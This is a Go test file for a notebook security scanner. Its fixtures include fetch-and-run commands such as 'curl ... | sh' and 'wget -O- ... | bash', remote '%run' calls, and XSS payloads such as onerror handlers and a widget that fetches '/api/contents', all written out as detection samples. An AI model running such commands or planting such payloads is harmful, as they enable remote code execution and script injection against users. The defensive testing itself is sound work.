package notebook

import (
	"encoding/json"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
	"github.com/merlon-security/merlon/scan"
)

// book makes a notebook of one code cell, with an output.
func book(source, mime, output string) string {
	q := func(s string) string { b, _ := json.Marshal(s); return string(b) }
	outputs := "[]"
	if mime != "" {
		outputs = `[{"output_type": "display_data", "metadata": {}, "data": {` + q(mime) + `: ` + q(output) + `}}]`
	}
	return `{"cells": [{"cell_type": "code", "execution_count": 1, "metadata": {}, "outputs": ` + outputs + `, "source": ` + q(source) + `}],
 "metadata": {"language_info": {"name": "python"}}, "nbformat": 4, "nbformat_minor": 5}`
}

// look scans one file and returns what was found as "rule place", and the errors.
func look(t *testing.T, name, body string) (found, errs []string) {
	t.Helper()
	dir := t.TempDir()
	if err := os.WriteFile(filepath.Join(dir, name), []byte(body), 0o644); err != nil {
		t.Fatal(err)
	}
	r, err := scan.Run(t.Context(), scan.Options{Roots: []string{dir}, Scanners: []scan.Scanner{New(), probe{"python"}, probe{"text"}}})
	if err != nil {
		t.Fatal(err)
	}
	for _, f := range r.Findings {
		found = append(found, strings.TrimPrefix(f.Finding.Rule, "notebook/")+f.Locations[0].Ref.InnerString()+line(f.Locations[0].Line))
	}
	for _, e := range r.Coverage.Errors {
		errs = append(errs, e.Err)
	}
	slices.Sort(found)
	return found, errs
}

func line(n int) string {
	if n == 0 {
		return ""
	}
	return ":" + string(rune('0'+n))
}

func TestCommands(t *testing.T) {
	for _, tt := range []struct {
		source string
		want   []string
	}{
		{"import os\n!curl -s https://a.example/x.sh | sh", []string{"remote-shell-script#cell=0:2"}},
		{"!curl -s https://a.example/data.json | jq .", nil},
		{"%%bash\nset -e\nwget -O- https://a.example/x | bash", []string{"remote-shell-script#cell=0:3"}},
		{"%%bash\nwget -O x https://a.example/x", nil},
		{"%%writefile x.sh\ncurl https://a.example/x | bash", nil},
		{"# !curl https://a.example/x | bash", nil},
		{"doc = '''\n!curl https://a.example/x | bash\n'''", nil},
		{"%run https://a.example/x.py", []string{"remote-code#cell=0:1"}},
		{"%run x.py\n%load other.py", nil},
		{"!pip install a", []string{"unpinned-package#cell=0:1"}},
		{"x = !pip install a", []string{"unpinned-package#cell=0:1"}},
		{"%pip install a==1.0 b==2.0.1\n%conda install -y numpy=1.2", nil},
		{"!pip install \\\n  a==1 \\\n  b", []string{"unpinned-package#cell=0:1"}},
		{"!pip install -r requirements.txt\n!pip install -e .\n!pip install --upgrade pip==24.0", nil},
		{"!pip install a==1 --trusted-host p.example", []string{"insecure-package-source#cell=0:1"}},
		{"!pip install -i http://p.example/simple a==1", []string{"insecure-package-source#cell=0:1"}},
		{"!pip install -i http://localhost:3141/simple a==1\n!pip install -i https://p.example/simple a==1", nil},
		{"!pip install http://p.example/a-1.0-py3-none-any.whl", []string{"insecure-package-source#cell=0:1"}},
		{"!pip install git+https://g.example/a@main", []string{"mutable-package-address#cell=0:1"}},
		{"!pip install git+https://g.example/a@0123456789abcdef0123456789abcdef01234567", nil},
	} {
		found, errs := look(t, "n.ipynb", book(tt.source, "", ""))
		if d := cmp.Diff(tt.want, found); d != "" || errs != nil {
			t.Errorf("%q (-want +got):\n%s%v", tt.source, d, errs)
		}
	}
}

func TestOutputs(t *testing.T) {
	const at = "#cell=0#output=0:1"
	for _, tt := range []struct {
		mime, body string
		want       []string
	}{
		{"text/html", "<table><tr><td>1</td></tr></table>", nil},
		{"text/plain", "<script>alert(1)</script>", nil},
		{"text/html", "<script>draw()</script>", []string{"script-in-output#cell=0#output=0"}},
		{"text/html", "<img src=x onerror=alert(1)>", []string{"script-in-output#cell=0#output=0"}},
		{"text/html", `<a href="https://a.example/?onload=1">x</a> on x = 3`, nil},
		{"image/svg+xml", "<svg><script>1</script></svg>", []string{"script-in-output#cell=0#output=0"}},
		{"application/javascript", "IPython.notebook.kernel.execute('x')", []string{"output-runs-code" + at, "script-in-output#cell=0#output=0"}},
		{"text/html", `<script src="http://e.example/x.js"></script>`, []string{"script-from-elsewhere" + at, "script-in-output#cell=0#output=0"}},
		{"text/html", `<script src="https://cdn.plot.ly/plotly-2.35.js"></script>`, []string{"script-in-output#cell=0#output=0"}},
		{"text/html", `<script src="http://cdn.plot.ly/plotly-2.35.js"></script>`, []string{"script-from-elsewhere" + at, "script-in-output#cell=0#output=0"}},
		{"text/plain", "  File \"/home/ada/work/x.py\", line 3", []string{"home-folder" + at}},
		{"text/plain", `C:\Users\Ada\x.csv`, []string{"home-folder" + at}},
		{"text/plain", "/home/jovyan/work/x.py https://a.example/home/ada/x", nil},
		{"text/plain", "  name    mail                       card\n0 Ada  ada.berg@firma-beispiel.de  4539 5787 6362 1486", []string{"personal-data#cell=0#output=0:2", "personal-data#cell=0#output=0:2"}},
		{"text/html", "<table><tr><td>SE45 5000 0000 0583 9825 7466</td></tr></table>", []string{"personal-data" + at}},
		{"text/html", "<script>\n/* ada.berg@firma-beispiel.de */</script>", []string{"script-in-output#cell=0#output=0"}},
		{"text/plain", "user@example.com 4111 1111 1111 1111 epoch 3/10 loss 0.12345678", nil},
	} {
		found, errs := look(t, "n.ipynb", book("x", tt.mime, tt.body))
		if d := cmp.Diff(tt.want, found); d != "" || errs != nil {
			t.Errorf("%s %q (-want +got):\n%s%v", tt.mime, tt.body, d, errs)
		}
	}
}

func TestFlagsAndText(t *testing.T) {
	for name, tt := range map[string]struct {
		body string
		want []string
	}{
		"trusted notebook": {`{"cells": [], "metadata": {"trusted": true}, "nbformat": 4, "nbformat_minor": 5}`, []string{"trusted-flag"}},
		"trusted cell":     {`{"cells": [{"cell_type": "code", "source": "", "metadata": {"trusted": true}}], "nbformat": 4}`, []string{"trusted-flag#cell=0"}},
		"widget of HTML": {`{"cells": [], "metadata": {"widgets": {"application/vnd.jupyter.widget-state+json": {"state": {"a1": {"model_module": "@jupyter-widgets/controls", "model_name": "HTMLModel", "state": {"value": "<img src=x onerror=\"fetch('/api/contents')\">"}}}}}}, "nbformat": 4}`,
			[]string{"output-runs-code:1", "script-in-output"}},
		"long widget": {`{"cells": [], "metadata": {"widgets": {"application/vnd.jupyter.widget-state+json": {"state": {"a1": {"state": {"value": "` + strings.Repeat("<p>text</p>", 2000) + `<script>x()</script>"}}}}}}, "nbformat": 4}`,
			[]string{"script-in-output"}},
		"widget of text": {`{"cells": [], "metadata": {"widgets": {"application/vnd.jupyter.widget-state+json": {"state": {"a1": {"model_name": "HTMLModel", "state": {"value": "<b>42</b>"}}}}}}, "nbformat": 4}`, nil},
		"not trusted":    {`{"cells": [{"cell_type": "code", "source": "", "metadata": {"trusted": false}}], "metadata": {"other": {"trusted": true}}, "nbformat": 4}`, nil},
		"Markdown": {`{"cells": [{"cell_type": "markdown", "source": ["a\n", "<iframe src='https://e.example/x'></iframe>"]}], "nbformat": 4}`,
			[]string{"script-from-elsewhere#cell=0:2", "script-in-output#cell=0"}},
		"Markdown about HTML": {"{\"cells\": [{\"cell_type\": \"markdown\", \"source\": \"```html\\n<script src='https://e.example/x'></script>\\n```\\nuse `<iframe src=//x.example>`\"}]}", nil},
		"R":                   {`{"cells": [{"cell_type": "code", "source": "x <- 'MARK_1'"}], "metadata": {"kernelspec": {"language": "R"}}, "nbformat": 4}`, []string{"probe/mark#cell=0:1"}},
		"metadata is text":    {`{"cells": [], "metadata": {"a": {"b": ["x", "MARK_1"]}}, "nbformat": 4}`, []string{"probe/mark:2"}},
		"attachment": {`{"cells": [{"cell_type": "markdown", "source": "", "attachments": {"a.svg": {"image/svg+xml": "<svg onload=x()>"}}}], "nbformat": 4}`,
			[]string{"script-in-output#cell=0#output=0"}},
		"byte order mark": {"\ufeff" + `{"cells": [{"cell_type": "code", "source": "MARK_1"}]}`, []string{"probe/mark#cell=0:1"}},
	} {
		t.Run(name, func(t *testing.T) {
			found, errs := look(t, "n.ipynb", tt.body)
			if d := cmp.Diff(tt.want, found); d != "" || errs != nil {
				t.Errorf("(-want +got):\n%s%v", d, errs)
			}
		})
	}
}

// What is no notebook makes the scan incomplete, and its text is looked at.
func TestBroken(t *testing.T) {
	for _, tt := range []struct{ body, want string }{
		{"", "not a notebook: it begins with nothing, not with {"},
		{"MARK_1", "not a notebook: it begins with nothing, not with {"},
		{`{"cells": [{"source": "MARK_1`, "not a notebook: a string that does not end (byte 29)"},
		{`{"a": "MARK_1"}`, `not a notebook: it has no list "cells"`},
		{`{"cells": []} MARK_1`, "not a notebook: something follows the document (byte 14)"},
		{"{\"cells\": " + strings.Repeat("[", 1000), "not a notebook: nested deeper than 128 (byte 137)"},
	} {
		found, errs := look(t, "n.ipynb", tt.body)
		if d := cmp.Diff([]string{tt.want}, errs); d != "" {
			t.Errorf("%.40q (-want +got):\n%s", tt.body, d)
		}
		if strings.Contains(tt.body, "MARK") != (len(found) == 1) {
			t.Errorf("%.40q: found %v", tt.body, found)
		}
	}
}

func TestDatabricks(t *testing.T) {
	const body = "# Databricks notebook source\nx = 1\n\n# COMMAND ----------\n\n# MAGIC %sh\n# MAGIC cd /tmp\n# MAGIC curl https://a.example/x | bash\n\n# COMMAND ----------\n\n# MAGIC %md\n# MAGIC run curl https://a.example/x | bash\n"
	found, errs := look(t, "n.py", body)
	if d := cmp.Diff([]string{"remote-shell-script:8"}, found); d != "" || errs != nil {
		t.Errorf("(-want +got):\n%s%v", d, errs)
	}
}

func FuzzRead(f *testing.F) {
	for _, name := range []string{"testdata/nb3.ipynb", "testdata/nb4.ipynb"} {
		b, err := os.ReadFile(name)
		if err != nil {
			f.Fatal(err)
		}
		f.Add(string(b))
	}
	f.Fuzz(func(t *testing.T, s string) {
		nb, err := Read(strings.NewReader(s))
		if err != nil {
			return
		}
		for _, c := range nb.Cells {
			toPython(c.Source, nb.databricks())
		}
	})
}
